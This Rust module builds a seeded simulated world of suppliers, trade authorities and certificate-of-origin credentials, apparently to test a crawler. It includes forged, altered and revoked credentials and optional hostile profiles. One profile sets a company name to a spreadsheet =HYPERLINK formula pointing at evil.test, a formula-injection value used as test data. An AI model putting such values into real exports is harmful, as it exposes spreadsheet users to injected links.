//! The world: authorities, the single window and the suppliers, all derived
//! from a seed. Suppliers are regenerated on demand from `(seed, index)`;
//! the only state kept is each authority's log and revocation list, and the
//! supplier domain names.

use std::collections::HashMap;
use std::sync::Mutex;

use chrono::{DateTime, Duration as Days, Utc};
use eco::issue::{
    Answer, CertificateOfOrigin, CredentialSigner, IssuingAuthority, RegistryStatus, derived_key,
    registry_record,
};
use rand::seq::IndexedRandom as _;
use rand::{RngExt as _, SeedableRng as _};
use rand_chacha::ChaCha8Rng;
use serde_json::Value;

use crate::documents::DocumentCache;
use crate::lang::Lang;
use crate::names::{self, INDUSTRIES};
use crate::profile::{CertKind, HostileKind, Profile, TtCase};
use crate::tradetrust::{self, TradeTrust};

/// Share of suppliers that change profile in each generation.
pub const EVOLVE_SHARE: f64 = 0.2;

/// Host of the single-window registry.
pub const SINGLE_WINDOW_HOST: &str = "sw.asean-single-window.test";

/// The `authority` of a TradeTrust certificate: not one of the
/// credential-issuing authorities but the TradeTrust body
/// ([`World::tradetrust`]).
pub const TRADETRUST_AUTHORITY: usize = usize::MAX;

/// How a world is generated and served.
#[derive(Debug, Clone)]
pub struct WorldConfig {
    /// Number of suppliers.
    pub suppliers: usize,
    /// The seed: the same seed gives the same world.
    pub seed: u64,
    /// Whether hostile servers are part of the world.
    pub hostile: bool,
    /// The port every host is served on (written into URLs).
    pub port: u16,
    /// The world's present: validity periods are placed around it.
    pub now: DateTime<Utc>,
    /// How long the slow endpoints take to answer.
    pub slow_answer: std::time::Duration,
    /// How many rounds of change the world has gone through since
    /// generation 0 (same seed: same suppliers, some with new profiles).
    pub generation: u32,
    /// Profiles left out of the world (a benchmark leaves out the slow
    /// endpoints so that it measures the crawler, not the sleep).
    pub without: Vec<Profile>,
}

impl WorldConfig {
    /// A world of `suppliers` suppliers from `seed`, served on `port`, with
    /// the present taken as today (00:00 UTC).
    pub fn new(suppliers: usize, seed: u64, port: u16) -> WorldConfig {
        let today = Utc::now()
            .date_naive()
            .and_hms_opt(0, 0, 0)
            .unwrap_or_default()
            .and_utc();
        WorldConfig {
            suppliers,
            seed,
            hostile: false,
            port,
            now: today,
            slow_answer: std::time::Duration::from_secs(3),
            generation: 0,
            without: Vec::new(),
        }
    }
}

/// A simulated issuing authority.
pub struct SimAuthority {
    /// Its issuing side (log, status list), behind a lock for the server.
    pub issuing: Mutex<IssuingAuthority>,
    /// Host name.
    pub host: String,
    /// Country code.
    pub country: &'static str,
    /// Certificate number prefix.
    pub number_prefix: &'static str,
    /// Whether the buyer's trust list includes it.
    pub trusted: bool,
    /// Its `issuer` id.
    pub issuer: String,
    /// Its key id.
    pub verification_method: String,
    /// Its official verification portal's host, if it has one.
    pub portal: Option<&'static str>,
}

/// The authorities: (id, name, country, host, number prefix, portal host).
const AUTHORITIES: &[(&str, &str, &str, &str, &str, &str)] = &[
    (
        "cn-ccpit",
        "China Council for the Promotion of International Trade",
        "CN",
        "eco.ccpit.test",
        "RCEP-CN-2026-",
        "check.ccpit-eco.test",
    ),
    (
        "vn-moit",
        "Ministry of Industry and Trade of Viet Nam",
        "VN",
        "ecosys.moit.test",
        "VN-RCEP-26-",
        "ecosys-portal.moit.test",
    ),
    (
        "th-dft",
        "Department of Foreign Trade, Thailand",
        "TH",
        "co.dft.test",
        "TH-RCEP-2026-",
        "smartco.dft.test",
    ),
    (
        "my-miti",
        "Ministry of Investment, Trade and Industry, Malaysia",
        "MY",
        "epco.miti.test",
        "MY-RCEP-",
        "fta.miti.test",
    ),
    (
        "id-kemendag",
        "Ministry of Trade of Indonesia",
        "ID",
        "eska.kemendag.test",
        "ID-SKA-2026-",
        "e-ska.kemendag.test",
    ),
    (
        "kr-kcs",
        "Korea Customs Service",
        "KR",
        "co.customs-kr.test",
        "KR-RCEP-26-",
        "unipass.customs-kr.test",
    ),
    (
        "jp-jcci",
        "Japan Chamber of Commerce and Industry",
        "JP",
        "eco.jcci.test",
        "JP-RCEP-",
        "co-portal.jcci.test",
    ),
];

/// The authority the trust list leaves out.
const UNTRUSTED: (&str, &str, &str, &str, &str) = (
    "xx-oco",
    "Overseas Origin Council",
    "CN",
    "eco.origin-council.test",
    "OCO-",
);

/// What a supplier is, before its site is laid out.
struct Identity {
    profile: Profile,
    country: &'static names::Country,
    industry: (&'static str, &'static str, &'static str),
    name: String,
    slug: String,
}

/// A certificate a supplier shows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimCertificate {
    /// Its position among the supplier's certificates (0..4).
    pub position: usize,
    /// Certificate number.
    pub number: String,
    /// What kind of credential it is.
    pub kind: CertKind,
    /// Index of the issuing authority ([`TRADETRUST_AUTHORITY`] for a
    /// TradeTrust certificate).
    pub authority: usize,
    /// Its revocation list index.
    pub status_index: usize,
}

/// How a supplier's site is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layout {
    /// `/index.html`, `/products.html`, `/certifications.html`.
    Static,
    /// WordPress: `/?page_id=17`.
    WordPress,
    /// Pretty folders: `/about-us/`, `/certifications/`.
    Pretty,
    /// Everything under `/en/` with `<base href>` and relative links.
    BaseHref,
    /// A Chinese CMS: `/a/zizhi/`.
    Dede,
}

/// One supplier, regenerated from the seed whenever needed.
#[derive(Debug, Clone)]
pub struct Supplier {
    /// Position in the world (and in `seeds.csv`).
    pub index: usize,
    /// Company name.
    pub name: String,
    /// Registrable domain (`<name>.test`).
    pub domain: String,
    /// Whether the site lives on `www.` (and the bare domain redirects).
    pub www: bool,
    /// Country code.
    pub country: &'static str,
    /// Region.
    pub region: &'static str,
    /// Language of the site.
    pub lang: Lang,
    /// Profile.
    pub profile: Profile,
    /// Layout.
    pub layout: Layout,
    /// Industry: (word, goods, HS code).
    pub industry: (&'static str, &'static str, &'static str),
    /// Slug of the certifications page.
    pub cert_slug: &'static str,
    /// Link text of the certifications page.
    pub cert_label: &'static str,
    /// Its certificates.
    pub certificates: Vec<SimCertificate>,
    /// Random bits that choose between variants of markup.
    pub variant: u64,
    /// Random bits, from a stream of their own, that choose how the site
    /// looks beyond its profile: the Certifications page's variant and the
    /// certificate documents it shows (see the `variety` and `documents`
    /// modules).
    pub look: u64,
}

/// The whole simulated world.
pub struct World {
    config: WorldConfig,
    authorities: Vec<SimAuthority>,
    forger: Vec<CredentialSigner>,
    special: HashMap<usize, Profile>,
    profiles: Vec<Profile>,
    domains: Vec<String>,
    by_domain: HashMap<String, usize>,
    documents: DocumentCache,
    tradetrust: TradeTrust,
}

/// Why a world could not be built.
#[derive(Debug, thiserror::Error)]
#[error("cannot build the world: {0}")]
pub struct WorldError(String);

impl WorldError {
    /// An error with a message.
    pub fn from_message(message: String) -> WorldError {
        WorldError(message)
    }
}

fn rng_for(seed: u64, index: usize, label: u64) -> ChaCha8Rng {
    // SplitMix64 over (seed, index, label): independent streams per supplier.
    let mut x = seed ^ (index as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ label.rotate_left(32);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    ChaCha8Rng::seed_from_u64(x ^ (x >> 31))
}

impl World {
    /// Generates the world: authorities, suppliers, and every anchored
    /// credential logged and every revocation set.
    pub fn new(config: WorldConfig) -> Result<World, WorldError> {
        let port = config.port;
        let sw = format!("http://{SINGLE_WINDOW_HOST}:{port}/");
        let n = config.suppliers;
        let mut authorities = Vec::new();
        let mut forger = Vec::new();
        let all = AUTHORITIES
            .iter()
            .map(|&(id, name, cc, host, prefix, portal)| {
                (id, name, cc, host, prefix, Some(portal), true)
            })
            .chain(std::iter::once((
                UNTRUSTED.0,
                UNTRUSTED.1,
                UNTRUSTED.2,
                UNTRUSTED.3,
                UNTRUSTED.4,
                None,
                false,
            )));
        for (id, name, country, host, prefix, portal, trusted) in all {
            let label = format!("ecoscout-sim/{}/{id}", config.seed);
            let issuing = IssuingAuthority::new(
                id,
                name,
                country,
                &format!("http://{host}:{port}/"),
                &sw,
                &label,
            )
            .map_err(|e| WorldError(e.to_string()))?
            .with_status_bits(4 * n)
            .with_portals(portal.map(|p| vec![p.to_owned()]).unwrap_or_default());
            let verification_method = issuing.signer().verification_method.clone();
            forger.push(CredentialSigner::new(
                &verification_method,
                derived_key(&format!("{label}/forger")),
            ));
            authorities.push(SimAuthority {
                issuer: issuing.issuer.clone(),
                verification_method,
                issuing: Mutex::new(issuing),
                host: host.to_owned(),
                country,
                number_prefix: prefix,
                trusted,
                portal,
            });
        }
        let mut profiles: Vec<Profile> = Profile::ORDINARY.to_vec();
        if config.hostile {
            profiles.extend(HostileKind::ALL.map(Profile::Hostile));
        }
        profiles.retain(|p| !config.without.contains(p));
        if profiles.is_empty() {
            return Err(WorldError("every profile is left out".into()));
        }
        let mut special = HashMap::new();
        if n >= profiles.len() {
            for (k, p) in profiles.iter().enumerate() {
                special.insert(k * n / profiles.len(), *p);
            }
        }
        let seed = config.seed;
        let mut world = World {
            config,
            authorities,
            forger,
            special,
            profiles,
            domains: Vec::with_capacity(n),
            by_domain: HashMap::with_capacity(n),
            documents: DocumentCache::new(),
            tradetrust: TradeTrust::new(seed),
        };
        for index in 0..n {
            let slug = world.identity(index).slug;
            let mut domain = format!("{slug}.test");
            let mut k = 2;
            while world.by_domain.contains_key(&domain) {
                domain = format!("{slug}-{k}.test");
                k += 1;
            }
            world.by_domain.insert(domain.clone(), index);
            world.domains.push(domain);
        }
        for index in 0..n {
            let supplier = world.supplier(index);
            if supplier
                .certificates
                .first()
                .is_some_and(|c| c.kind.is_tradetrust())
            {
                let issued = world.issued_on(&supplier, 0);
                world
                    .tradetrust
                    .add_supplier(&supplier, &issued.format("%Y-%m-%d").to_string())
                    .map_err(|e| WorldError(e.to_string()))?;
                continue;
            }
            for cert in &supplier.certificates {
                let original = world.original_credential(&supplier, cert)?;
                let mut authority = world.authorities[cert.authority]
                    .issuing
                    .lock()
                    .map_err(|_| WorldError("lock poisoned".into()))?;
                if cert.kind.anchored() {
                    authority
                        .anchor(&original)
                        .map_err(|e| WorldError(e.to_string()))?;
                }
                if cert.kind == CertKind::Revoked {
                    authority.revoke(cert.status_index);
                }
            }
        }
        Ok(world)
    }

    /// The configuration.
    pub fn config(&self) -> &WorldConfig {
        &self.config
    }

    /// The certificate documents rendered so far.
    pub fn documents(&self) -> &DocumentCache {
        &self.documents
    }

    /// Renders every supplier's certificate documents now, on every core,
    /// instead of on first request: a benchmark then measures the crawler,
    /// not the sim drawing scans. Returns how many were rendered.
    pub fn prerender_documents(&self) -> usize {
        let threads = std::thread::available_parallelism().map_or(1, usize::from);
        let rendered = std::sync::atomic::AtomicUsize::new(0);
        std::thread::scope(|scope| {
            for worker in 0..threads {
                let rendered = &rendered;
                scope.spawn(move || {
                    for index in (worker..self.len()).step_by(threads) {
                        let supplier = self.supplier(index);
                        let spec = self.spec(&supplier);
                        for doc in crate::documents::plan(self, &supplier, &spec) {
                            if self.documents.get_or_render(index, &doc).is_ok() {
                                rendered.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                            }
                        }
                    }
                });
            }
        });
        rendered.into_inner()
    }

    /// The TradeTrust issuing body, its stores and the suppliers' batches.
    pub fn tradetrust(&self) -> &TradeTrust {
        &self.tradetrust
    }

    /// The authorities (the untrusted one last).
    pub fn authorities(&self) -> &[SimAuthority] {
        &self.authorities
    }

    /// Number of suppliers.
    pub fn len(&self) -> usize {
        self.domains.len()
    }

    /// Whether the world has no supplier.
    pub fn is_empty(&self) -> bool {
        self.domains.is_empty()
    }

    /// The supplier whose site is `host` (with or without `www.`).
    pub fn supplier_by_host(&self, host: &str) -> Option<Supplier> {
        let bare = host.strip_prefix("www.").unwrap_or(host);
        self.by_domain.get(bare).map(|&i| self.supplier(i))
    }

    fn profile_of(&self, index: usize, rng: &mut ChaCha8Rng) -> Profile {
        if let Some(p) = self.special.get(&index) {
            return *p;
        }
        self.weighted_profile(rng)
    }

    fn weighted_profile(&self, rng: &mut ChaCha8Rng) -> Profile {
        let total: u32 = self.profiles.iter().map(|p| p.weight()).sum();
        let mut roll = rng.random_range(0..total);
        for p in &self.profiles {
            if roll < p.weight() {
                return *p;
            }
            roll -= p.weight();
        }
        Profile::IsoOnly
    }

    /// Profile, country, industry and name of supplier `index`, and its domain slug.
    fn identity(&self, index: usize) -> Identity {
        let mut rng = rng_for(self.config.seed, index, 1);
        let profile = self.profile_of(index, &mut rng);
        let eco_countries: Vec<&str> = AUTHORITIES.iter().map(|a| a.2).collect();
        let country = match profile {
            Profile::ReadyGbk => names::pick_country(&mut rng, &["CN"]),
            p if p.certificate_kind().is_some_and(CertKind::is_tradetrust) => {
                names::pick_country(&mut rng, &[tradetrust::COUNTRY])
            }
            p if p.certificate_kind().is_some() => names::pick_country(&mut rng, &eco_countries),
            _ => names::pick_country(&mut rng, &[]),
        };
        let industry = *INDUSTRIES.choose(&mut rng).unwrap_or(&INDUSTRIES[0]);
        let (mut name, slug) = names::company(&mut rng, country, industry.0);
        if profile == Profile::FormulaName {
            name = format!("=HYPERLINK(\"http://evil.test/x?{index}\",\"{name}\")");
        }
        let profile = self.evolve(index, profile, country.code);
        Identity {
            profile,
            country,
            industry,
            name,
            slug,
        }
    }

    /// The profile of supplier `index` after `config.generation` rounds of
    /// change: in each round a fifth of the suppliers move to another
    /// profile (a site adds an API, loses its page, gets revoked...). Name,
    /// country and domain never change, so runs can be compared.
    fn evolve(&self, index: usize, mut profile: Profile, country: &str) -> Profile {
        if matches!(profile, Profile::FormulaName | Profile::ReadyGbk) {
            return profile;
        }
        let has_authority = AUTHORITIES.iter().any(|a| a.2 == country);
        for generation in 1..=self.config.generation {
            let mut rng = rng_for(self.config.seed, index, 100 + u64::from(generation));
            if !rng.random_bool(EVOLVE_SHARE) {
                continue;
            }
            let candidate = self.weighted_profile(&mut rng);
            let allowed = !matches!(candidate, Profile::FormulaName | Profile::ReadyGbk)
                && match candidate.certificate_kind() {
                    None => true,
                    // TradeTrust certificates are issued to Australian
                    // exporters only.
                    Some(kind) if kind.is_tradetrust() => country == tradetrust::COUNTRY,
                    Some(_) => has_authority,
                };
            if allowed {
                profile = candidate;
            }
        }
        profile
    }

    /// Regenerates supplier `index` (panics never: out of range gives the last).
    pub fn supplier(&self, index: usize) -> Supplier {
        let index = index.min(self.domains.len().saturating_sub(1));
        let Identity {
            profile,
            country,
            industry,
            name,
            ..
        } = self.identity(index);
        let mut rng = rng_for(self.config.seed, index, 2);
        let lang = match profile {
            Profile::ReadyGbk => Lang::Zh,
            _ if rng.random_bool(0.6) => Lang::of_country(country.code),
            _ => Lang::En,
        };
        let layout = match profile {
            Profile::RobotsBlocked => Layout::Pretty,
            _ => *[
                Layout::Static,
                Layout::WordPress,
                Layout::Pretty,
                Layout::BaseHref,
                Layout::Dede,
            ]
            .choose(&mut rng)
            .unwrap_or(&Layout::Static),
        };
        let words = lang.words();
        let cert_slug = words
            .slugs
            .choose(&mut rng)
            .copied()
            .unwrap_or("certificates");
        let cert_label = words
            .certifications
            .choose(&mut rng)
            .copied()
            .unwrap_or("Certificates");
        let region = country.regions.choose(&mut rng).copied().unwrap_or("");
        let www = rng.random_bool(0.5);
        let variant = rng.random::<u64>();
        let mut certificates = Vec::new();
        if let Some(kind) = profile.certificate_kind() {
            let authority = if kind.is_tradetrust() {
                TRADETRUST_AUTHORITY
            } else if kind == CertKind::Untrusted {
                self.authorities.len() - 1
            } else {
                self.authorities
                    .iter()
                    .position(|a| a.trusted && a.country == country.code)
                    .unwrap_or(0)
            };
            let count = match kind {
                CertKind::Genuine | CertKind::TradeTrust(TtCase::Issued) => rng.random_range(1..=3),
                CertKind::TradeTrust(TtCase::Obfuscated) => rng.random_range(1..=2),
                _ => 1,
            };
            let prefix = self
                .authorities
                .get(authority)
                .map_or(tradetrust::NUMBER_PREFIX, |a| a.number_prefix);
            for position in 0..count {
                certificates.push(SimCertificate {
                    position,
                    number: format!("{prefix}{index:07}{position}"),
                    kind,
                    authority,
                    status_index: index * 4 + position,
                });
            }
        }
        // A stream of its own, so that the draws above stay as they were.
        let look = rng_for(self.config.seed, index, 3).random::<u64>();
        Supplier {
            index,
            name,
            domain: self.domains.get(index).cloned().unwrap_or_default(),
            www,
            country: country.code,
            region,
            lang,
            profile,
            layout,
            industry,
            cert_slug,
            cert_label,
            certificates,
            variant,
            look,
        }
    }

    /// When the certificate at `position` of `s` was issued (one in force).
    fn issued_on(&self, s: &Supplier, position: usize) -> DateTime<Utc> {
        self.config.now - Days::days(10 + (s.index % 120) as i64 + position as i64)
    }

    /// The certificate of origin a certificate states.
    fn certificate_of_origin(&self, s: &Supplier, cert: &SimCertificate) -> CertificateOfOrigin {
        let now = self.config.now;
        let (from, until) = if cert.kind == CertKind::Expired {
            (now - Days::days(500), now - Days::days(135))
        } else {
            let from = self.issued_on(s, cert.position);
            (from, from + Days::days(365))
        };
        let website = if cert.kind == CertKind::OtherExporter {
            let other = self
                .domains
                .get((s.index + 1) % self.domains.len().max(1))
                .filter(|d| **d != s.domain);
            format!(
                "https://www.{}/",
                other.map_or("another-exporter.test", String::as_str)
            )
        } else {
            format!("https://www.{}/", s.domain)
        };
        let importers = ["VN", "TH", "MY", "ID", "JP", "KR", "AU", "PH", "SG", "CN"];
        let importer = importers[(s.index + cert.position) % importers.len()];
        let importer = if importer == s.country {
            "NZ"
        } else {
            importer
        };
        CertificateOfOrigin {
            number: cert.number.clone(),
            exporter_name: s.name.clone(),
            exporter_country: s.country.to_owned(),
            exporter_website: website,
            importer_name: format!("Importer {importer}-{:04}", s.index % 9973),
            importer_country: importer.to_owned(),
            issue_date: from.format("%Y-%m-%d").to_string(),
            valid_from: from.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
            valid_until: until.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
            hs_code: s.industry.2.to_owned(),
            description: s.industry.1.to_owned(),
            single_window_reference: format!(
                "ASW-{}-{importer}-{:07}{}",
                s.country, s.index, cert.position
            ),
        }
    }

    /// The credential the authority issued (before any alteration).
    pub fn original_credential(
        &self,
        s: &Supplier,
        cert: &SimCertificate,
    ) -> Result<Value, WorldError> {
        let coo = self.certificate_of_origin(s, cert);
        let authority = self
            .authorities
            .get(cert.authority)
            .ok_or_else(|| WorldError(format!("{} is not a credential", cert.number)))?
            .issuing
            .lock()
            .map_err(|_| WorldError("lock poisoned".into()))?;
        let signed = if cert.kind == CertKind::Forged {
            let unsigned = eco::issue::credential(
                &authority.issuer,
                &coo,
                &authority.status_list_url(),
                cert.status_index,
            );
            self.forger[cert.authority].sign(&unsigned, &coo.valid_from)
        } else {
            authority.issue(&coo, cert.status_index)
        };
        signed.map_err(|e| WorldError(e.to_string()))
    }

    /// The credential document the supplier serves.
    pub fn served_credential(
        &self,
        s: &Supplier,
        cert: &SimCertificate,
    ) -> Result<Value, WorldError> {
        let mut credential = self.original_credential(s, cert)?;
        if cert.kind == CertKind::Altered {
            credential["credentialSubject"]["items"][0]["quantity"] = Value::from("12000");
        }
        Ok(credential)
    }

    /// Finds the certificate with `number`, whichever supplier shows it.
    pub fn certificate_by_number(&self, number: &str) -> Option<(Supplier, SimCertificate)> {
        let authority = self
            .authorities
            .iter()
            .position(|a| number.starts_with(a.number_prefix))?;
        let digits = &number[self.authorities[authority].number_prefix.len()..];
        if digits.len() != 8 || !digits.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
        let n: usize = digits.parse().ok()?;
        let (index, position) = (n / 10, n % 10);
        if index >= self.len() {
            return None;
        }
        let supplier = self.supplier(index);
        let cert = supplier
            .certificates
            .iter()
            .find(|c| c.position == position && c.authority == authority)?
            .clone();
        Some((supplier, cert))
    }

    /// Answers the single window's `GET v1/certificates/{number}`.
    pub fn single_window_answer(&self, path: &str) -> Answer {
        let Some(encoded) = path.strip_prefix("v1/certificates/") else {
            return Answer::error(404, "not found");
        };
        let Ok(number) = percent_encoding::percent_decode_str(encoded).decode_utf8() else {
            return Answer::error(400, "the certificate number is not UTF-8");
        };
        if number.starts_with(tradetrust::NUMBER_PREFIX) {
            return match self.tradetrust.registry_record(&number) {
                Some(record) => Answer::json(200, &record),
                None => Answer::error(404, "unknown certificate number"),
            };
        }
        let Some((supplier, cert)) = self.certificate_by_number(&number) else {
            return Answer::error(404, "unknown certificate number");
        };
        if matches!(cert.kind, CertKind::Forged | CertKind::Untrusted) {
            return Answer::error(404, "unknown certificate number");
        }
        let status = match cert.kind {
            CertKind::Revoked => RegistryStatus::Revoked,
            CertKind::Expired => RegistryStatus::Expired,
            _ => RegistryStatus::Valid,
        };
        match self
            .original_credential(&supplier, &cert)
            .map(|c| registry_record(&c, status))
        {
            Ok(Ok(record)) => Answer::json(200, &record),
            _ => Answer::error(500, "record unavailable"),
        }
    }
}
